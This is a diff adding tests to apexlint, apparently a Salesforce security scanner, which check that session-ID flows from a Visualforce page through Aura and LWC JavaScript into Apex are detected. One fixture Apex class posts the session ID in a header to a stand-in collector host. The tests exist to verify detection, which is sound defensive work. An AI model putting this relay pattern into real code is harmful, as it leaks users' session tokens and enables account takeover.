@@ -4,6 +4,10 @@ passed to, and resolved against the pages the package holds (`PackageModel.page_
 
 from __future__ import annotations
 
+from pathlib import Path
+
+from apexlint.engine import ScanOptions, scan
+from apexlint.findings import Finding
 from apexlint.ir import FileIR, FileKind, page_response
 from apexlint.lower.javascript import lower_javascript
 from apexlint.lower.visualforce import lower_visualforce
@@ -88,6 +92,9 @@ def test_jquery_callbacks_and_xhr_response_text_carry_the_response() -> None:
                "  " + EXTERNAL % "JSON.parse(xhr.responseText).token" + "};\n"
                "xhr.send();\n")
     assert sent(ir) == {page_response("ApiSession", "$.get"), page_response("Other", "XMLHttpRequest")}
+    ir = lower("$.ajax({ url: '/apex/ApiSession', dataType: 'json', success: function (data) {\n"
+               "  " + EXTERNAL % "data.sid" + "} });\n")
+    assert sent(ir) == {page_response("ApiSession", "$.ajax")}
 
 
 def test_an_aura_controller_reading_a_page_is_followed() -> None:
@@ -135,3 +142,57 @@ def test_the_package_resolves_a_response_to_the_sessions_the_page_renders() -> N
     assert model.page_response_sessions(page_response("other__ApiSession", "fetch"), "r.js") == {}
     assert model.page_response_sessions(page_response("Plain", "fetch"), "r.js") == {}
     assert model.page_response_sessions(page_response("Missing", "fetch"), "r.js") == {}
+
+
+_RELAY = """public with sharing class Relay {
+    @AuraEnabled
+    public static void relay(String note, String apiSessionId) {
+        HttpRequest req = new HttpRequest();
+        req.setEndpoint('https://collector.example.com/in');
+        req.setMethod('POST');
+        req.setHeader('X-Session', apiSessionId);
+        new Http().send(req);
+    }
+}
+"""
+_SESSION_PAGE = '<apex:page contentType="application/json">{"sid":"{!$Api.Session_ID}"}</apex:page>\n'
+
+
+def _scan_package(tmp_path: Path, files: dict[str, str]) -> list[Finding]:
+    for rel, text in {"sfdx-project.json": '{"packageDirectories": [{"path": "force-app", "default": true}]}',
+                      "force-app/main/default/classes/Relay.cls": _RELAY,
+                      "force-app/main/default/pages/ApiSession.page": _SESSION_PAGE, **files}.items():
+        (tmp_path / rel).parent.mkdir(parents=True, exist_ok=True)
+        (tmp_path / rel).write_text(text, encoding="utf-8")
+    return list(scan(ScanOptions(paths=(tmp_path,), root=tmp_path, jobs=1)).findings)
+
+
+def test_an_aura_action_given_the_response_sends_the_pages_session_and_says_how(tmp_path: Path) -> None:
+    findings = _scan_package(tmp_path, {
+        "force-app/main/default/aura/Relayer/Relayer.cmp": '<aura:component controller="Relay"/>\n',
+        "force-app/main/default/aura/Relayer/RelayerController.js":
+            "({ go: function (component) {\n"
+            "  fetch('/apex/ApiSession').then(function (r) { return r.json(); }).then($A.getCallback(function (d) {\n"
+            "    var action = component.get('c.relay');\n"
+            "    action.setParams({ note: 'x', apiSessionId: d.sid });\n"
+            "    $A.enqueueAction(action);\n"
+            "  }));\n"
+            "} })\n",
+    })
+    assert [(f.rule_id, f.location.span.start_line) for f in findings] == [("SID002", 8)]
+    assert "at ApiSession.page:1, rendered by Visualforce page ApiSession, read by RelayerController.js with " \
+           "fetch, passed to Relay.relay, is sent in the header 'X-Session'" in findings[0].message
+
+
+def test_a_page_whose_response_is_only_tested_keeps_its_unused_session(tmp_path: Path) -> None:
+    findings = _scan_package(tmp_path, {
+        "force-app/main/default/lwc/checker/checker.js":
+            "import relay from '@salesforce/apex/Relay.relay';\n"
+            "export default class Checker {\n"
+            "  async go() {\n"
+            "    const d = await (await fetch('/apex/ApiSession')).json();\n"
+            "    return d.sid ? relay({ note: 'signed in' }) : null;\n"
+            "  }\n"
+            "}\n",
+    })
+    assert [(f.rule_id, f.location.path.rpartition("/")[2]) for f in findings] == [("SID011", "ApiSession.page")]
